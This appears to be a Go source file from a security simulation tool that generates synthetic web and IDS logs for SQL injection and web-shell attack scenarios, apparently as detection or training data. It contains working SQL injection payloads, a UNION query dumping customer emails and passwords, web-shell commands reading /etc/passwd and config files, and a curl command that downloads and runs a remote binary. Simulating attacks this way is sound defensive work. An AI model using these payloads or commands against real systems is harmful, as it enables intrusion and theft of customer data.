package simulate

import (
	"fmt"
	"net/url"
	"strings"
)

var _ = campaign(Campaign{
	Name:  "web-sqli-blocked",
	Title: "SQL injection is tried on the shop; the web application firewall refuses all of it",
	Run: func(k *attack) {
		h := k.w.web
		k.host(h)
		k.tells("web1/apache")
		k.step("T1190", "inject", "tries SQL injection on /shop/product.php")
		agent := pick(&k.rng, []string{sqlmap, userAgents[0]})
		for range k.between(40, 160) {
			b := k.w.browse(k.actor, k.source(), agent, false)
			b.refused("/shop/product.php", "id", pick(&k.rng, injections))
			b.close()
			k.lull(200*msec, 3*second)
		}
	},
})

var _ = campaign(Campaign{
	Name:  "web-sqli-succeeds",
	Title: "SQL injection in the shop's search dumps the customer table",
	Run: func(k *attack) {
		h := k.w.web
		k.host(h)
		k.tells("web1/apache", "sensor1/suricata")
		agent := pick(&k.rng, []string{sqlmap, sqlmap, userAgents[2], "python-requests/2.32.3"})
		request := func(payload string, status int, length int64, s *signature) {
			b := k.w.browse(k.actor, k.source(), agent, false)
			r := b.request("GET", "/shop/search.php?q="+url.QueryEscape(payload), status, length, "text/html")
			if s != nil {
				k.w.sensor.alert(k.actor, &b.flow, s, r)
			}
			if status == 500 {
				h.complain(k.actor, "php:error", b.from, b.flow.sport, "PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near '"+strings.ReplaceAll(payload, "\n", " ")+"' at line 1 in /var/www/html/shop/search.php:31")
			}
			b.close()
		}
		scan := (*signature)(nil)
		if agent == sqlmap {
			scan = &etSqlmap
		}
		k.step("T1190", "probe", "finds that /shop/search.php can be injected")
		for range k.between(15, 50) {
			payload := pick(&k.rng, injections)
			if k.rng.chance(400) {
				request(payload, 500, 0, scan)
			} else {
				request(payload, 200, 5120+k.between(0, 300), scan)
			}
			k.lull(100*msec, 2*second)
		}
		k.step("T1213.006", "dump", "dumps the customers")
		var out int64
		pages := k.between(30, 120)
		for i := range pages {
			payload := fmt.Sprintf("-1' UNION ALL SELECT NULL,CONCAT(0x71,JSON_ARRAYAGG(CONCAT_WS(0x2c,id,email,name,password)),0x71),NULL FROM shop.customers LIMIT %d,500-- -", i*500)
			size := k.between(42_000, 68_000)
			out += size
			request(payload, 200, size, &etUnionSelect)
			if i == 0 {
				k.succeeds()
			}
			k.lull(200*msec, 2*second)
		}
		k.fact("data-out", "shop.customers", "about %d kB of customer records were read", out/1000)
	},
})

const sqlmap = "sqlmap/1.8.11#stable (https://sqlmap.org)"

var injections = []string{
	"1' OR '1'='1", "1' AND 1=1-- -", "1' AND 1=2-- -", "1 AND SLEEP(5)", "1' AND SLEEP(5)-- -", "1') OR ('a'='a",
	"1' ORDER BY 1-- -", "1' ORDER BY 10-- -", "1' UNION SELECT NULL,NULL-- -", "1' UNION SELECT NULL,NULL,NULL-- -",
	"1' AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))-- -", "1;SELECT PG_SLEEP(5)--", "1' AND (SELECT 7 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- -",
}

// refused is a request that ModSecurity with the OWASP Core Rule Set blocks.
func (b *browser) refused(path, parameter, payload string) {
	a, h := b.a, b.a.w.web
	r := b.request("GET", path+"?"+parameter+"="+url.QueryEscape(payload), 403, 440, "text/html")
	h.complain(a, "security2:error", b.from, b.flow.sport, fmt.Sprintf(`[client %s] ModSecurity: Access denied with code 403 (phase 2). detected SQLi using libinjection with fingerprint 's&1' [file "/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "66"] [id "942100"] [msg "SQL Injection Attack Detected via libinjection"] [data "Matched Data: s&1 found within ARGS:%s: %s"] [severity "CRITICAL"] [ver "OWASP_CRS/3.3.7"] [tag "application-multi"] [tag "attack-sqli"] [hostname "%s"] [uri "%s"] [unique_id "%s"]`,
		b.from, parameter, payload, webSite, path, strings.TrimSuffix(fingerprint(&a.rng)[7:31], "/")+"AAA"))
	g := etUnionSelect
	switch {
	case b.agent == sqlmap:
		g = etSqlmap
	case !strings.Contains(payload, "UNION"):
		return
	}
	a.w.sensor.alert(a, &b.flow, &g, r)
}

var _ = campaign(Campaign{
	Name:  "web-shell",
	Title: "A web shell is uploaded to the shop and used to run commands and fetch a tool",
	Run: func(k *attack) {
		w, h, a := k.w, k.w.web, k.actor
		k.host(h)
		k.user("www-data")
		k.tells("web1/apache", "sensor1/suricata", "web1/syslog")
		k.step("T1190", "upload", "uploads a PHP file as a picture of a profile")
		agent := pick(&k.rng, []string{userAgents[2], "python-requests/2.32.3", "curl/8.5.0"})
		b := w.browse(a, k.source(), agent, false)
		b.page("/shop/account.php")
		k.pause(second, 20*second)
		for range k.rng.below(4) { // refused until the name passes the check
			b.request("POST", "/shop/upload.php", 200, 812, "text/html")
			k.pause(2*second, 20*second)
		}
		b.request("POST", "/shop/upload.php", 302, 0, "text/html")
		b.close()
		shell := "/uploads/" + pick(&k.rng, []string{"avatar_%d.php", "img%d.phtml", "thumb_%d.php"})
		shell = fmt.Sprintf(shell, k.rng.below(100_000))
		k.pause(5*second, minute)

		k.step("T1505.003", "shell", "runs commands through %s", shell)
		param := pick(&k.rng, []string{"cmd", "c", "x"})
		command := func(c string, length int64) {
			b := w.browse(a, k.source(), agent, false)
			b.request("GET", shell+"?"+param+"="+url.QueryEscape(c), 200, length, "text/html")
			b.close()
			k.lull(2*second, 25*second)
		}
		command("id", 54)
		k.succeeds()
		k.fact("execution", shell, "commands ran on web1 as www-data")
		command("uname -a", 103)
		command("cat /etc/passwd", 1893)
		command("ls -la /var/www/html", 2240)
		command("cat /var/www/html/shop/config.php", 611)
		k.step("T1548.003", "sudo", "tries sudo, which wants a password")
		command("sudo -n id", 0)
		h.authf(a, "sudo", 0, "www-data : a password is required ; TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/usr/bin/id")

		k.step("T1105", "fetch", "fetches a tool and starts it")
		drop := k.source()
		command(fmt.Sprintf("curl -s http://%s:8080/m -o /tmp/.m && chmod +x /tmp/.m && /tmp/.m &", drop), 0)
		f := w.sensor.open(a, "TCP", h.address, clientPort(a), drop, 8080)
		w.sensor.http(a, &f, &webRequest{host: drop + ":8080", method: "GET", url: "/m", agent: "curl/7.88.1", status: 200, length: 2_412_544, mime: "application/octet-stream"})
		w.sensor.close(a, &f)
		k.pause(second, 5*second)
		k.step("T1071.001", "callback", "the tool calls home")
		c2 := w.sensor.open(a, "TCP", h.address, clientPort(a), drop, 443)
		w.sensor.tls(a, &c2, "cdn-assets.example.net")
		k.fact("outbound", drop, "web1 holds a connection to %s", drop)
		k.step("T1053.003", "cron", "leaves a cron job of www-data")
		k.pause(minute, 4*minute)
		h.replaceCrontab(a, "www-data")
		k.fact("persistence", "crontab of www-data", "a cron job of www-data on web1")
		k.step("T1041", "data", "sends the shop's files home")
		k.pause(10*minute, 40*minute)
		c2.toServer += k.between(40_000_000, 400_000_000)
		w.sensor.close(a, &c2)
		k.fact("data-out", drop, "about %d MB went out to %s", c2.toServer/1_000_000, drop)
		k.wait(2 * minute) // until the sensor has logged the flow
	},
})
